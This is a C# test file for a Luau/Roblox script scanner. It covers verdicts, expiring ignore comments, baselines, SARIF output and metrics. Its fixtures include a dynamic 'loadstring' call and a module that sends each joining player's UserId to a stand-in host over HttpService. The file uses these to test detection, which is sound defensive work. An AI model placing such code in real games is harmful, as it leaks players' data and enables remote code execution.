using System.Text.Json;
using ToolboxAI.Shared.Luau;
using ToolboxAI.Shared.Luau.Scan;
using ToolboxAI.Shared.Roblox.Files;

namespace ToolboxAI.Tests.Luau;

/// <summary>What a scan answers: verdicts, accepted findings, baselines, SARIF.</summary>
public sealed class ScanResultTests
{
    private static readonly DateOnly Today = new(2026, 11, 21);

    [Theory]
    [InlineData("print('hello')", "clean")]
    [InlineData("while true do end", "review")]
    [InlineData("loadstring(x)()", "refuse")]
    [InlineData("-- toolbox:ignore remote-code-loadstring until 2026-12-31: the teacher's own console\nloadstring(x)()", "clean")]
    [InlineData("loadstring(x)() -- toolbox:ignore remote-code-loadstring until 2026-11-21: last day", "clean")]
    [InlineData("-- toolbox:ignore remote-code-loadstring until 2026-11-20: too late\nloadstring(x)()", "refuse")]
    [InlineData("-- toolbox:ignore remote-code-loadstring until 2026-12-31\nloadstring(x)()", "refuse")]
    [InlineData("-- toolbox:ignore data-store-in-loop until 2026-12-31: another rule\nloadstring(x)()", "refuse")]
    public void The_verdict_counts_what_is_neither_accepted_nor_known(string script, string verdict) =>
        Assert.Equal(verdict, Scan(script).Verdict);

    [Fact]
    public void A_finding_on_the_baseline_is_known_though_its_line_moves()
    {
        var fingerprint = Scan("loadstring(x)()").Scripts[0].Findings.Select(finding => finding.Fingerprint).ToList();

        var moved = ScanResult.Of("script", LuauSource.FromText("\n\n  loadstring(x)()"), ScanOptions.Default, new(fingerprint), Today);

        Assert.Equal("clean", moved.Verdict);
        Assert.All(moved.Scripts[0].Findings, finding => Assert.True(finding.IsKnown));
    }

    [Fact]
    public void Scripts_inside_a_model_are_scanned_under_their_path()
    {
        var model = new RobloxInstance("Model");
        model.Add(Script("Script", "Door", "loadstring(x)()"));

        var result = ScanResult.Of(RobloxFile.Read(DocumentWriter.WriteBinary([model])), ScanOptions.Default, Baseline.Empty, Today);

        Assert.Equal(("refuse", "Model/Door", "Script"), (result.Verdict, result.Scripts[0].Path, result.Scripts[0].ClassName));
    }

    [Fact]
    public void What_a_module_hands_to_the_engine_is_told_where_it_was_required()
    {
        var model = new RobloxInstance("Model");
        var before = string.Concat(Enumerable.Repeat("local x = 1\n", 50));
        model.Add(Script("ModuleScript", "Joins", before + "game.Players.PlayerAdded:Connect(function(p) game:GetService('HttpService'):PostAsync('https://x.example', p.UserId) end)"));
        model.Add(Script("Script", "Main", "\nrequire(script.Parent.Joins)"));

        var result = ScanResult.Of(RobloxFile.Read(DocumentWriter.WriteBinary([model])), ScanOptions.Default, Baseline.Empty, Today);

        var found = Assert.Single(result.Scripts.Single(script => script.Path == "Model/Main").Findings, finding => finding.Rule == "privacy-player-data-leaves");
        Assert.Equal(2, found.Location.Line);
    }

    [Fact]
    public void Sarif_names_every_rule_and_the_way_of_each_finding()
    {
        using var log = JsonDocument.Parse(JsonSerializer.Serialize(Sarif.From(Scan("loadstring(x)()"))));

        var run = log.RootElement.GetProperty("runs")[0];
        Assert.Equal("2.1.0", log.RootElement.GetProperty("version").GetString());
        Assert.Equal(Rules.All.Count, run.GetProperty("tool").GetProperty("driver").GetProperty("rules").GetArrayLength());
        var result = run.GetProperty("results")[0];
        Assert.Equal(Rules.All.Keys.ElementAt(result.GetProperty("ruleIndex").GetInt32()), result.GetProperty("ruleId").GetString());
        Assert.Equal(1, result.GetProperty("locations")[0].GetProperty("physicalLocation").GetProperty("region").GetProperty("startLine").GetInt32());
        Assert.True(result.GetProperty("codeFlows")[0].GetProperty("threadFlows")[0].GetProperty("locations").GetArrayLength() > 0);
    }

    [Fact]
    public void Metrics_count_decisions_and_nesting()
    {
        var metrics = ScriptScanner.Scan(LuauSource.FromText("-- a comment\nfunction f(a)\n  if a then\n    for i = 1, 2 do\n      if i and a then end\n    end\n  end\nend")).Metrics;

        Assert.Equal((8, 7, 1, 5, 4), (metrics.Lines, metrics.CodeLines, metrics.Functions, metrics.Cyclomatic, metrics.Nesting));
        Assert.InRange(metrics.CommentRatio, 0.05, 0.25);
    }

    private static RobloxInstance Script(string className, string name, string source)
    {
        var script = new RobloxInstance(className);
        script.Properties["Name"] = new PropertyValue.Text(name);
        script.Properties["Source"] = new PropertyValue.Text(source);
        return script;
    }

    private static ScanResult Scan(string script) => ScanResult.Of("script", LuauSource.FromText(script), ScanOptions.Default, Baseline.Empty, Today);
}
